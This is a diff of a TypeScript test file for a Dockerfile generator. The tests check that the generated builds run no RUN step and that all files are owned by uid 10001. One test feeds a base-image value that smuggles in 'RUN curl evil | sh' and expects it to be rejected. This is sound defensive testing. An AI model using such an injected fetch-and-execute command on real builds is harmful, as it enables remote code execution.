@@ -3,6 +3,7 @@ import { Readable } from 'node:stream';
 import {
   buildContextTar,
   DOCKERIGNORE,
+  dependencyDockerfile,
   enginesWarning,
   generateDockerfile,
   type DockerfileInput,
@@ -10,44 +11,47 @@ import {
 import { collect, listTar, tarGz } from './testing/archive-fixtures.js';
 
 const base: DockerfileInput = {
-  baseImage: 'berth/node-runtime:local',
-  hasLockfile: true,
+  baseImage: 'berth-deps-app1:0123456789abcdef0123456789abcdef',
   start: { kind: 'script' },
   runtimeNodeVersion: '20.20.2',
 };
 const lines = (input: Partial<DockerfileInput> = {}) =>
   generateDockerfile({ ...base, ...input }).dockerfile.split('\n');
-const indexOf = (all: string[], pattern: RegExp) => all.findIndex((line) => pattern.test(line));
+const instructions = (text: string) =>
+  text
+    .split('\n')
+    .filter((line) => /^[A-Z]+ /.test(line))
+    .map((line) => line.split(' ')[0]);
+
+describe('dependencyDockerfile', () => {
+  it('copies the installed node_modules onto the runtime image and runs nothing (no RUN step)', () => {
+    const text = dependencyDockerfile('berth/node-runtime:local');
+    expect(instructions(text)).toEqual(['FROM', 'COPY']);
+    expect(text).toMatch(/^FROM berth\/node-runtime:local$/m);
+    expect(text).toMatch(/^COPY --chown=10001:10001 node_modules \/app\/node_modules$/m);
+  });
+
+  it('refuses a runtime image that could inject instructions', () => {
+    expect(() => dependencyDockerfile('node:20\nRUN curl evil | sh')).toThrow('invalid base image');
+  });
+});
 
 describe('generateDockerfile', () => {
-  it('installs dependencies in their own layer before copying the rest, so code-only changes reuse it', () => {
-    const all = lines();
-    const manifests = indexOf(all, /^COPY --chown=10001:10001 package\.json /);
-    const install = indexOf(all, /^RUN npm ci /);
-    const rest = indexOf(all, /^COPY --chown=10001:10001 \. \.$/);
-    expect(manifests).toBeGreaterThan(-1);
-    expect(install).toBeGreaterThan(manifests);
-    expect(rest).toBeGreaterThan(install);
-    expect(all.filter((line) => line.startsWith('COPY'))).toHaveLength(2);
+  it('builds FROM the dependency image with no RUN step: tenant code never runs in the builder', () => {
+    const text = generateDockerfile(base).dockerfile;
+    expect(text).toMatch(/^FROM berth-deps-app1:0123456789abcdef0123456789abcdef$/m);
+    expect(instructions(text)).toEqual(['FROM', 'ENV', 'WORKDIR', 'USER', 'COPY', 'EXPOSE', 'CMD']);
+    expect(text).not.toMatch(/^RUN /m);
+    expect(text).not.toContain('npm ci');
+    expect(text).not.toContain('npm install');
   });
 
-  it('uses npm ci with the lockfile when there is one', () => {
-    const all = lines({ hasLockfile: true });
-    expect(all[indexOf(all, /^COPY .* \.\/$/)]).toContain('package-lock.json* npm-shrinkwrap.json*');
-    expect(all[indexOf(all, /^RUN /)]).toContain('npm ci --omit=dev');
-    expect(all.join('\n')).not.toContain('npm install');
-  });
-
-  it('uses npm install without a lockfile', () => {
-    const all = lines({ hasLockfile: false });
-    expect(all[indexOf(all, /^COPY .* \.\/$/)]).not.toContain('package-lock.json');
-    expect(all[indexOf(all, /^RUN /)]).toContain('npm install --omit=dev --no-audit --no-fund');
-    expect(all.join('\n')).not.toContain('npm ci');
+  it("keeps the source's node_modules out, so the installed ones stay", () => {
+    expect(DOCKERIGNORE.split('\n')).toContain('**/node_modules');
   });
 
   it('runs as uid 10001 in /app with the production environment and the PORT contract', () => {
     const text = generateDockerfile(base).dockerfile;
-    expect(text).toMatch(/^FROM berth\/node-runtime:local$/m);
     expect(text).toMatch(/^WORKDIR \/app$/m);
     expect(text).toMatch(/^USER 10001$/m);
     for (const env of [
@@ -59,10 +63,7 @@ describe('generateDockerfile', () => {
     ]) {
       expect(text).toContain(env);
     }
-    // USER comes before any RUN so node_modules belong to the app user; no chown binary is needed.
     const all = text.split('\n');
-    expect(indexOf(all, /^USER 10001$/)).toBeLessThan(indexOf(all, /^RUN /));
-    expect(text).not.toMatch(/^RUN .*chown/m);
     expect(
       all.filter((line) => line.startsWith('COPY')).every((line) => line.includes('--chown=10001:10001')),
     ).toBe(true);
